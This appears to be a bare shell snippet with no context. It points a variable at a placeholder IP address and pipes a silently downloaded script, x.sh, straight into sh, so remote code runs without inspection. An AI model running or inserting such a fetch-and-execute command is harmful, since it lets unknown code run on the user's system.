H=198.51.100.7
U="http://$H/x.sh"
curl -s "$U" | sh
